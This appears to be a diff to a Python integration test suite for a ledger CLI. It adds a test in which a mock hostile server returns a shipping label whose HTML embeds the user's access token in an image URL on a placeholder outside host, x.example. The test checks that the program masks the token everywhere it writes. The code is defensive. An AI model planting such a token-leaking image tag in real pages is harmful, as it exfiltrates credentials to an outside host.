@@ -7,6 +7,7 @@ the run), and no secret may reach any file or stream the program writes.
 
 from __future__ import annotations
 
+import base64
 import json
 import subprocess
 import threading
@@ -16,6 +17,7 @@ from typing import Any
 
 import pytest
 
+from app.core.ledger import Ledger
 from tests.integration.hostile_server import (
     STABLE_TOKEN,
     Handler,
@@ -25,7 +27,7 @@ from tests.integration.hostile_server import (
     drip,
     echo_orders,
 )
-from tests.integration.ledger_cli import cli_command, cli_env, json_lines, run_cli
+from tests.integration.ledger_cli import cli_command, cli_env, json_lines, ledger_path, run_cli
 
 
 @pytest.fixture
@@ -104,6 +106,35 @@ def test_echoed_secrets_reach_no_stream_and_no_file(hostile: HostileServer, tmp_
         p.read_bytes().decode("utf-8", "replace") for p in tmp_path.rglob("*") if p.is_file()
     ]
     assert any("token=***" in text for text in written[4:])  # the ledger holds the masked text
+    for secret in (hostile.token, hostile.secret):
+        assert not [text[:80] for text in written if secret in text]
+
+
+def test_a_token_echoed_inside_the_label_reaches_no_file_and_no_stream(
+    hostile: HostileServer, tmp_path: Path
+) -> None:
+    def behaviour(handler: Handler, body: dict[str, Any]) -> None:
+        label = f"<html><body>label <img src='https://x.example/?access_token={hostile.token}'>"
+        label += f"<p>{hostile.secret}</p></body></html>"
+        print_html = base64.b64encode(label.encode()).decode()
+        answer_json(handler, echo_orders(body, print_html=print_html))
+
+    hostile.batchget = behaviour
+    home, pdf_dir = tmp_path / "home", tmp_path / "pdf"
+    result = fetch(hostile, home, ["L1,SF", "L2,SF"], "--pdf-dir", str(pdf_dir))
+    assert result.returncode == 1, result.stderr  # the label has no barcode: unverified
+    out = json_lines(result.stdout)
+    assert [o["status"] for o in out] == ["unverified", "unverified"]
+    assert sorted(p.name for p in pdf_dir.iterdir()) == ["WB-L1.pdf", "WB-L2.pdf"]
+    with Ledger(ledger_path(home)) as ledger:
+        stored = ledger.stored_waybill("WB-L1")
+    assert stored is not None and stored.html is not None
+    assert "access_token=***" in stored.html and "<p>***</p>" in stored.html
+    written = [result.stdout, result.stderr]
+    written += [
+        p.read_bytes().decode("utf-8", "replace") for p in tmp_path.rglob("*") if p.is_file()
+    ]
+    assert any("access_token=***" in text for text in written[2:])  # the ledger's masked label
     for secret in (hostile.token, hostile.secret):
         assert not [text[:80] for text in written if secret in text]
 
